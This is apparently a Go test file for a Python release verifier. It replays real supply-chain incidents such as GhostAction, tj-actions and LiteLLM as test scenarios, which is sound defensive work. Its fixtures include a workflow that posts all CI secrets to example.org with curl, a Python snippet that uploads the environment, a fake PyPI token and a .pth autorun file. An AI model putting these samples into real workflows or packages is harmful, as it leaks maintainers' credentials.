package steps_test

import (
	"testing"

	"ferry/flow/ci"
	"ferry/pypi/pypitest"
)

// incident is what happened to a project once, told in the terms of a bench. What
// a release assistant could have seen is flagged; what it could not is a limit,
// and asserted as well.
type incident struct {
	name  string
	when  string
	like  options
	world []happens
	bad   string // checks of ferry verify that are bad
	good  string // checks that the attacker passed: they are no proof
	open  string // checks that could not be made, and are never called good
	tells string // what an open check shows for a person to judge
	look  func(*testing.T, *bench)
}

const (
	workflow  = ".github/workflows/publish.yml"
	sender    = "on: push\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' https://example.org\n"
	stolen    = "pypi-AgEIcHlwaS5vcmc" + "CJDhkMzlkLTA5MTItNGQ2Mi1iYTUx"
	harvester = "import os, urllib.request\nurllib.request.urlopen('https://example.org', str(os.environ).encode())\n"
)

var (
	module    = map[string]string{"src/acme_core/__init__.py": "x = 1\n"}
	withThief = map[string]string{"acme_core/__init__.py": "x = 1\n" + harvester}
)

// vouched publishes both files with those contents, and a valid provenance that
// names a commit.
func vouched(inWheel map[string]string, at who) happens {
	return func(b *bench) {
		s, data := pypitest.Sdist(project, version, day, module)
		w, zipped := pypitest.Wheel(project, version, day, inWheel)
		for _, f := range []pypitest.File{{Name: s, Data: data}, {Name: w, Data: zipped}} {
			f.Provenance = signed(b.t.(*testing.T), f, b.commit(at))
			b.index.Publish(project, version, ago(3*hour), f)
		}
	}
}

// before is the last release, which said who published it, as vouched does.
func before(b *bench) {
	name, data := pypitest.Sdist(project, "1.3.0", day, nil)
	f := pypitest.File{Name: name, Data: data}
	f.Provenance = signed(b.t.(*testing.T), f, b.first)
	b.index.Publish(project, "1.3.0", ago(48*hour), f)
}

// added: 1.3.9 was our commit, and the one that is to be released has a file more.
func added(name, text string) happens {
	return func(b *bench) {
		b.git.Tag(slug, "refs/tags/v1.3.9", b.ours, "Dana", "dana@example.org", ago(48*hour), "acme-core 1.3.9\n")
		b.ours = b.git.Commit(slug, "main", "Add GitHub Actions security workflow", map[string]string{name: text}, day.Add(4*hour))
		var err error
		b.target, err = b.world.Aim(b.t.Context(), b.intent, b.ours)
		must(b.t, err)
	}
}

var incidents = []incident{
	{name: "Ultralytics, the build", when: "December 2024: a poisoned cache changed what CI built; the publisher and the attestation were the right ones",
		like: options{files: module}, world: byName(before, vouched(withThief, ours)), bad: "contents", good: "provenance origin bytes"},
	{name: "Ultralytics, the token", when: "December 2024: two more releases by a token that was left over, without a build and an attestation",
		like: options{files: module}, world: []happens{before, holding(module, withThief)}, bad: "provenance origin", good: "bytes", open: "contents", look: taken},
	{name: "tj-actions, the tags", when: "March 2025: the tags of an action were moved, and jobs ran what they pointed to",
		like: options{byTag: true, files: map[string]string{workflow: workflowFile + "      - uses: tj-actions/changed-files@v45\n"}}, look: moving},
	{name: "tj-actions, the logs", when: "the same: secrets were printed into public logs",
		world: []happens{claim(1, ours, 3*hour), branch(ours), logged(ours, 2*hour, uploads(sdist, wheel)+"token: "+stolen+"\n", ci.StatePassed), published(3*hour, sdist, wheel)}, good: "bytes", look: leaksSeen},
	{name: "num2words", when: "July 2025: a maintainer's login was phished, and two releases made by hand",
		like: options{files: module}, world: []happens{before, holding(module, withThief)}, bad: "provenance origin", open: "contents", look: taken},
	{name: "GhostAction", when: "September 2025: a commit added a workflow that sends the secrets away",
		like: options{byTag: true}, world: []happens{existing("1.3.9"), added(".github/workflows/security.yml", sender)}, look: pathSeen(".github/workflows/security.yml")},
	{name: "nx", when: "August 2025: releases by a stolen token, without the provenance that those before had",
		world: []happens{before, published(3*hour, sdist, wheel)}, bad: "provenance origin", good: "bytes", look: taken},
	{name: "LiteLLM", when: "March 2026: a stolen token, and a .pth that every start of Python runs",
		like: options{files: module}, world: []happens{holding(module, map[string]string{"acme_core/__init__.py": "x = 1\n", "acme_core_init.pth": "import os\n"})},
		bad: "origin", good: "bytes", open: "provenance contents", tells: "acme_core_init.pth in " + wheel + " is read by every start of Python", look: taken},
	{name: "Mini Shai-Hulud", when: "May 2026: an identity was lifted out of CI, and malware published with valid provenance",
		like: options{files: module}, world: byName(before, vouched(withThief, theirs)), bad: "provenance contents", good: "bytes"},

	{name: "a secret in the package", when: "2023: 3,938 secrets in published packages",
		world: byName(holding(map[string]string{"acme_core.egg-info/.env": "TOKEN=" + stolen + "\n"}, nil)), bad: "contents secrets", good: "bytes origin"},
	{name: "an old release", when: "closed by PyPI in July 2026: a wheel more in a version of long ago",
		world: released(2*hour, published(3*hour, sdist, wheel, linux)), bad: "unexpected", good: "bytes"},
}
